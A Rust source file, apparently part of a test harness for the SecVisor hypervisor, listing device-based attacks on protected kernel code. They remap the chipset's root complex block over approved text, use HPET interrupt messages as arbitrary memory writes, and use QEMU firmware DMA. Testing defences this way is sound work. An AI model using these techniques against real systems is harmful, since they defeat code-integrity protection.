//! Chipset registers that put other memory, or a device's own writes, where approved text is.

use super::execute::run_code;
use super::hardware::call;
use super::{Attack, Plan};
use crate::cpu::outl;
use crate::devices::{HPET, LPC_BRIDGE, PCI_DATA, pci_write};
#[cfg(target_arch = "x86_64")]
use crate::memory::poke;
use crate::memory::{HEAP, copy, poke8, poke32};
use crate::trap::symbol;

/// The LPC bridge's root complex block: where it lies with bit 0 set, and its size.
pub const RCBA: u32 = 0xF0;
const RCBA_HOME: u64 = 0xFED1_C000;
const RCBA_BYTES: u64 = 0x4000;

/// Where Q35 has a register of PCI configuration in memory.
pub const fn ecam(function: u32, register: u32) -> u64 {
    0xB000_0000 | (function as u64) << 12 | register as u64
}

/// Lays the root complex block, filled with code, over approved text by a function that sets
/// [`RCBA`] to a value, and runs it there.
pub fn lay_over_text(set: fn(u64)) {
    let victim = symbol!(victim);
    let block = victim & !(RCBA_BYTES - 1);
    set(RCBA_HOME | 1);
    copy(block, RCBA_HOME, RCBA_BYTES);
    copy(symbol!(write_marker), RCBA_HOME + (victim - block), 16);
    set(block | 1);
    // The code there writes to its argument.
    run_code(victim, symbol!(witness));
    set(RCBA_HOME | 1);
}

extern "C" fn by_ports(_: u64) {
    lay_over_text(|value| pci_write(LPC_BRIDGE, RCBA, value as u32));
}

extern "C" fn by_memory(_: u64) {
    lay_over_text(|value| poke32(ecam(LPC_BRIDGE, RCBA), value as u32));
}

/// A timer of the HPET whose interrupt is a write to approved text.
extern "C" fn hpet_message(address: u64) {
    send_by_hpet(address, 0x90C3_90C3);
}

/// A message of the HPET's: any value to any address. All stores are of 32 bits, which SecVisor
/// judges one by one.
pub fn send_by_hpet(address: u64, value: u32) {
    let (enable, counter, timer) = (HPET + 0x10, HPET + 0xF0, HPET + 0x100);
    let stop = [(enable, 0), (counter, 0), (counter + 4, 0), (timer + 8, 10_000), (timer + 12, 0)];
    let message = [(timer + 0x10, value), (timer + 0x14, address as u32)];
    let start = [(timer, 1 << 14 | 1 << 2), (enable, 1)];
    for (register, value) in stop.into_iter().chain(message).chain(start) {
        poke32(register, value);
    }
    wait_for_hpet();
}

/// The same by stores of 64 bits.
#[cfg(target_arch = "x86_64")]
extern "C" fn hpet_message_quads(address: u64) {
    let (enable, counter, timer) = (HPET + 0x10, HPET + 0xF0, HPET + 0x100);
    let message = (timer + 0x10, address << 32 | 0x90C3_90C3);
    let start = [(timer, 1 << 14 | 1 << 2), (enable, 1)];
    for (register, value) in
        [(enable, 0), (counter, 0), (timer + 8, 10_000), message].into_iter().chain(start)
    {
        poke(register, value);
    }
    wait_for_hpet();
}

fn wait_for_hpet() {
    for _ in 0..5_000_000 {
        core::hint::spin_loop();
    }
    poke32(HPET + 0x10, 0);
    poke32(HPET + 0x100, 0);
}

/// QEMU's firmware configuration reads its signature into approved text.
extern "C" fn firmware_dma(address: u64) {
    const SELECT_AND_READ: u32 = 1 << 3 | 1 << 1;
    let request = [SELECT_AND_READ, 4, 0, address as u32].map(u32::to_be_bytes);
    for (at, byte) in request.as_flattened().iter().enumerate() {
        poke8(HEAP + at as u64, *byte);
    }
    outl(0x514, 0);
    outl(0x518, (HEAP as u32).swap_bytes());
}

/// A row's plan whose effect shows in the victim's page.
fn on_text(target: u64, function: extern "C" fn(u64)) -> Plan {
    Plan { witness: symbol!(victim), ..call(target, function, symbol!(victim)) }
}

/// The rows.
pub const ROWS: &[Attack] = &[
    Attack { name: "pci-text-ports", plan: |_| call(PCI_DATA.into(), by_ports, 0) },
    Attack { name: "pci-text-memory", plan: |_| call(ecam(LPC_BRIDGE, 0), by_memory, 0) },
    Attack { name: "hpet-text", plan: |_| on_text(HPET, hpet_message) },
    #[cfg(target_arch = "x86_64")]
    Attack { name: "hpet-text-quads", plan: |_| on_text(HPET, hpet_message_quads) },
    Attack { name: "firmware-dma-text", plan: |_| on_text(0x514, firmware_dma) },
];
